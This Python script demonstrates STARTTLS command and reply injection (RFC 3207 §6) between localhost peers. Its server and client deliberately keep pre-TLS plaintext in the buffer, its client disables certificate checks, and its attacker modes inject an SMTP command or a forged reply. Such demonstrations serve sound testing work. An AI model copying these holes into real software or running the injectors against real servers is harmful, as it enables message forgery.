"""Peers that make the mistakes of RFC 3207 §6, and their attackers. What was read as plain text stays in the buffer when TLS begins.

starttls_victim.py server KEY CERTIFICATE: prints `ready PORT`, then `plain LINE` or `tls LINE` for each command that it obeys.
starttls_victim.py injecting-client PORT one|two: STARTTLS and a command in one segment or two, then TLS: prints `tls` or `cut off`.
starttls_victim.py injecting-server KEY CERTIFICATE one|two: prints `ready PORT`; its 220 and another reply in one segment or two.
starttls_victim.py client PORT: prints `believed REPLY` for its EHLO inside TLS, or `cut off`.
"""

import socket
import ssl
import sys
import threading
import time


class Line:
    """A connection with one buffer for its whole life: the mistake."""

    def __init__(self, connection):
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.settimeout(10)
        self.connection, self.buffer = connection, b''

    def read(self):
        while b'\n' not in self.buffer:
            octets = self.connection.recv(4096)
            if not octets:
                raise ConnectionError
            self.buffer += octets
        line, _, self.buffer = self.buffer.partition(b'\n')
        return line.decode('latin1').strip()

    def reply(self):
        while (line := self.read())[3:4] == '-':
            pass
        return line

    def say(self, text):
        self.connection.sendall(text.encode('latin1'))

    def say_both(self, first, second, pieces):
        if pieces == 'one':
            self.say(first + second)
        else:
            self.say(first)
            time.sleep(0.1)
            self.say(second)

    def secure(self, context, **role):
        self.connection = context.wrap_socket(self.connection, **role)


def server_context(key, certificate):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    return context


def client_context():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def listen(serve):
    listener = socket.create_server(('127.0.0.1', 0))
    print(f'ready {listener.getsockname()[1]}')
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=guard, args=(serve, Line(connection)), daemon=True).start()


def guard(act, line):
    try:
        act(line)
    except (OSError, ssl.SSLError):
        print('cut off')


def serve(line):
    """Obeys what was in its buffer when TLS began."""
    secure = False
    line.say('220 victim.example ESMTP\r\n')
    while True:
        command = line.read()
        print(f'{"tls" if secure else "plain"} {command}')
        if command.upper().startswith('STARTTLS'):
            line.say('220 2.0.0 ready\r\n')
            line.secure(context, server_side=True)
            secure = True
        elif command.upper().startswith('EHLO'):
            line.say('250-victim.example\r\n250 STARTTLS\r\n')
        else:
            line.say('250 2.0.0 fine\r\n')


def inject_reply(line):
    line.say('220 evil.example ESMTP\r\n')
    while True:
        command = line.read()
        if command.upper().startswith('STARTTLS'):
            line.say_both('220 2.0.0 ready\r\n', '250 INJECTED\r\n', rest[2])
            line.secure(context, server_side=True)
        elif command.upper().startswith('EHLO'):
            line.say('250-evil.example\r\n250 STARTTLS\r\n')


def begin(port):
    line = Line(socket.create_connection(('127.0.0.1', int(port))))
    line.reply()
    line.say('EHLO client.example\r\n')
    line.reply()
    return line


def inject_command(_):
    line = begin(rest[0])
    line.say_both('STARTTLS\r\n', 'MAIL FROM:<INJECTED@client.example>\r\n', rest[1])
    line.reply()
    line.secure(client_context())
    line.say('NOOP\r\n')
    line.reply()
    print('tls')


def believe(_):
    line = begin(rest[0])
    line.say('STARTTLS\r\n')
    line.reply()
    # Time for what follows in another segment; a client that reads late.
    time.sleep(0.3)
    line.connection.settimeout(0.1)
    try:
        if not line.buffer:
            line.buffer = line.connection.recv(4096)
            if not line.buffer:
                raise ConnectionError
    except TimeoutError:
        pass
    line.connection.settimeout(10)
    line.secure(client_context())
    line.say('EHLO client.example\r\n')
    print(f'believed {line.reply()}')


what, *rest = sys.argv[1:]
if what in ('server', 'injecting-server'):
    context = server_context(rest[0], rest[1])
    listen(serve if what == 'server' else inject_reply)
else:
    guard(inject_command if what == 'injecting-client' else believe, None)
